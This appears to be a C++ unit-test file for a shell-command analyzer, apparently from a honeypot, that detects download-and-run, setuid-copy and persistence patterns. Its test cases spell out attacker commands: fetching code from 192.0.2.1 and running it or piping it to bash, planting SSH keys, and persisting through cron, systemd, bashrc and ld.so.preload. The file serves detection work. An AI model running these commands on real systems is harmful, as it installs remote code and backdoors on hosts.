// What happens to files from command to command.
#include "decnet/shell/flow.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <vector>

#include "decnet/shell/analysis.h"

namespace decnet::shell {
namespace {

struct Case {
  const char* name;
  std::string text;
  std::vector<std::string> findings;
};
void PrintTo(const Case& row, std::ostream* out) { *out << row.text; }

class Flows : public testing::TestWithParam<Case> {};

TEST_P(Flows, AreFound) {
  Analysis analysis;
  analysis.run(GetParam().text);
  std::vector<std::string> found;
  for (const Text& text : analysis.texts(TextKind::kFlow)) found.emplace_back(text.text);
  EXPECT_THAT(found, testing::ElementsAreArray(GetParam().findings));
}

std::string name_of(const testing::TestParamInfo<Case>& info) { return info.param.name; }

INSTANTIATE_TEST_SUITE_P(
    Fetched, Flows,
    testing::ValuesIn(std::vector<Case>{
        {"Run",
         "cd /tmp; wget http://192.0.2.1/x; chmod +x x; ./x; rm -f x",
         {"fetched-then-executable /tmp/x", "fetched-then-run /tmp/x", "run-then-removed /tmp/x"}},
        {"OnLines",
         "cd /tmp\nwget -q http://192.0.2.1/d/x?y=1\nchmod 777 x\n./x",
         {"fetched-then-executable /tmp/x", "fetched-then-run /tmp/x"}},
        {"ByAbsolutePath", "wget 192.0.2.1/x -O /tmp/y && sh /tmp/y", {"fetched-then-run /tmp/y"}},
        {"OptionAttached", "wget -O/tmp/y 192.0.2.1/x; /tmp/y", {"fetched-then-run /tmp/y"}},
        {"Curl", "curl -so x http://192.0.2.1/y; bash x", {"fetched-then-run x"}},
        {"CurlRemoteName", "curl -sSLO http://192.0.2.1/y; bash y", {"fetched-then-run y"}},
        {"CurlRedirected", "curl http://192.0.2.1/y > x; bash x", {"fetched-then-run x"}},
        {"CurlPiped", "curl -s http://192.0.2.1/y | bash", {"fetched-then-run -"}},
        {"WgetPiped", "wget -qO- http://192.0.2.1/y | sh", {"fetched-then-run -"}},
        {"WgetPipedWithArguments",
         "wget -O - 192.0.2.1/y | sudo bash -s x",
         {"fetched-then-run -"}},
        {"Tftp", "tftp -g -r x 192.0.2.1; sh x", {"fetched-then-run x"}},
        {"TftpOld", "tftp 192.0.2.1 -c get x; sh x", {"fetched-then-run x"}},
        {"Ftpget", "ftpget -u a -p b 192.0.2.1 x y; sh x", {"fetched-then-run x"}},
        {"Scp", "scp a@192.0.2.1:/d/x /tmp/; /tmp/x", {"fetched-then-run /tmp/x"}},
        {"InLoop",
         "for i in a b; do wget http://192.0.2.1/$i; chmod 755 $i; ./$i; rm -rf $i; done",
         {"fetched-then-executable $i", "fetched-then-run $i", "run-then-removed $i"}},
        {"Globs",
         "wget 192.0.2.1/xa; chmod +x x*; ./xa; rm -rf *",
         {"fetched-then-executable xa", "fetched-then-run xa", "run-then-removed xa"}},
        {"Moved", "wget 192.0.2.1/x; mv x /tmp/y; /tmp/y", {"fetched-then-run /tmp/y"}},
        {"Unpacked",
         "wget 192.0.2.1/x.tgz; tar xzf x.tgz; cd x; ./run",
         {"fetched-then-unpacked x.tgz", "unpacked-then-run x/run"}},
        {"InNestedShell", "sh -c 'wget 192.0.2.1/x; sh x'", {"fetched-then-run x"}},
        {"Disguised", "w\"g\"et 192.0.2.1/x; $(echo sh) ./x", {"fetched-then-run x"}},
        {"Backgrounded", "wget 192.0.2.1/x; nohup ./x &", {"fetched-then-run x"}},
        {"NotRun", "wget 192.0.2.1/x; cat x; rm x", {}},
        {"OtherRun", "wget 192.0.2.1/x; ./y; sh z", {}},
        {"Installed", "wget 192.0.2.1/x.deb; dpkg -i x.deb", {}},
        {"ModeWithoutRunning", "wget 192.0.2.1/x; chmod 644 x", {}},
    }),
    name_of);

INSTANTIATE_TEST_SUITE_P(
    Brought, Flows,
    testing::ValuesIn(std::vector<Case>{
        {"Written",
         "echo id > /tmp/x; sh /tmp/x; rm /tmp/x",
         {"written-then-run /tmp/x", "run-then-removed /tmp/x"}},
        {"Document", "cat > x <<E\nid\nE\nchmod +x x; ./x", {"written-then-run x"}},
        {"Decoded", "echo aWQ= | base64 -d > x; sh x", {"decoded-then-run x"}},
        {"Copied", "cp /bin/busybox x; ./x wget y", {"copied-then-run x"}},
        {"SetUser", "cp /bin/sh /tmp/s; chmod 4755 /tmp/s", {"copied-then-setuid /tmp/s"}},
        {"SetUserByLetters", "cp /bin/sh s; chmod u+s s", {"copied-then-setuid s"}},
        {"Compiled", "cat > x.c <<E\nint main;\nE\ngcc x.c -o x && ./x", {"compiled-then-run x"}},
        {"LogIsNothing", "./x > y; rm y", {}},
    }),
    name_of);

INSTANTIATE_TEST_SUITE_P(
    Persisted, Flows,
    testing::ValuesIn(std::vector<Case>{
        {"Key",
         "mkdir ~/.ssh; echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys",
         {"key-written ~/.ssh/authorized_keys"}},
        {"KeyThere",
         "cd ~ && cd .ssh && echo ssh-ed25519 AAAA > authorized_keys",
         {"key-written ~/.ssh/authorized_keys"}},
        {"KeyByTee",
         "echo ssh-rsa AAAA | tee -a /root/.ssh/authorized_keys",
         {"key-written /root/.ssh/authorized_keys"}},
        {"NoKey", "echo x >> ~/.ssh/authorized_keys", {}},
        {"Crontab",
         "wget 192.0.2.1/x -O /tmp/x; echo '* * * * * /tmp/x' | crontab -",
         {"persisted-cron /tmp/x"}},
        {"CronFile",
         "wget 192.0.2.1/x -O /tmp/x; echo '@reboot root /tmp/x' >> /etc/crontab",
         {"persisted-cron /tmp/x"}},
        {"Init", "wget 192.0.2.1/x; cp x /etc/init.d/x", {"persisted-init x"}},
        {"Unit",
         "curl -o /opt/x 192.0.2.1/x; cat > /etc/systemd/system/x.service <<E\nExecStart=/opt/x\nE",
         {"persisted-systemd /opt/x"}},
        {"Profile",
         "curl -o /opt/x 192.0.2.1/x; echo /opt/x >> ~/.bashrc",
         {"persisted-profile /opt/x"}},
        {"Preload",
         "wget -O /lib/x.so 192.0.2.1/x; echo /lib/x.so > /etc/ld.so.preload",
         {"persisted-preload /lib/x.so"}},
        {"SomethingElse",
         "wget -O /tmp/x 192.0.2.1/x; echo '@daily /usr/bin/true' >> /etc/crontab",
         {}},
    }),
    name_of);

TEST(Flow, IsForgottenBetweenTexts) {
  Analysis analysis;
  analysis.run("wget 192.0.2.1/x");
  analysis.run("./x");
  EXPECT_TRUE(analysis.texts(TextKind::kFlow).empty());
}

}  // namespace
}  // namespace decnet::shell
